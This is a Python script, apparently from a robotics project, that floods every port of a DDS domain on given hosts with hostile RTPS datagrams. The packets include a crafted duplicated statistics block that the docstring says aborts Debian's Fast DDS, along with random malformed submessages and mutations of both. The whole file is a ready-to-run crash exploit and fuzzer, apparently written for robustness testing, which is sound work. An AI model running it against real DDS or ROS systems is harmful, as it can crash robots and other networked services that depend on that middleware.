#!/usr/bin/env python3
# SPDX-FileCopyrightText: 2026 The CoSLAM authors
# SPDX-License-Identifier: Apache-2.0
"""Sends hostile datagrams to all ports of a DDS domain: what aborts Debian's Fast DDS, nonsense, and mutations of both.

    attack.py --hosts 10.77.0.1,10.77.0.2 --domain 3 --rate 2000 --count 100000
"""

import argparse
import random
import socket
import struct
import time


def rtps_header(chance):
    return b"RTPS\x02\x03\x01\x0f" + chance.randbytes(12)


def twice_the_statistics(chance):
    """The block that Debian's build expects at the very end, in the middle too."""
    block = struct.pack("<BBH", 0x80, 0x01, 56) + chance.randbytes(56)
    return rtps_header(chance) + block + block


def submessages(chance):
    out = rtps_header(chance)
    for _ in range(chance.randrange(1, 6)):
        body = chance.randbytes(chance.randrange(0, 80))
        kind = chance.choice([0x01, 0x06, 0x07, 0x08, 0x09, 0x0C, 0x0E, 0x12, 0x13, 0x15, 0x16, 0x80])
        out += struct.pack("<BBH", kind, chance.randrange(256), chance.choice([len(body), 0, 0xFFFF])) + body
    return out


def mutated(chance, datagram):
    changed = bytearray(datagram)
    for _ in range(chance.randrange(1, 8)):
        changed[chance.randrange(len(changed))] = chance.randrange(256)
    return bytes(changed[: chance.randrange(1, len(changed) + 1)])


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--hosts", required=True)
    parser.add_argument("--domain", type=int, required=True)
    parser.add_argument("--rate", type=float, default=2000)
    parser.add_argument("--count", type=int, default=100000)
    arguments = parser.parse_args()
    chance = random.Random(1)
    first = 7400 + 250 * arguments.domain
    ports = [first, first + 1] + [first + 10 + i for i in range(8)]
    targets = [(host, port) for host in arguments.hosts.split(",") for port in ports]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    begin = time.monotonic()
    for i in range(arguments.count):
        datagram = chance.choice([twice_the_statistics, submessages])(chance)
        if chance.random() < 0.5:
            datagram = mutated(chance, datagram)
        try:
            udp.sendto(datagram, targets[i % len(targets)])
        except OSError:
            pass  # nobody at that port
        time.sleep(max(0.0, begin + (i + 1) / arguments.rate - time.monotonic()))


if __name__ == "__main__":
    main()
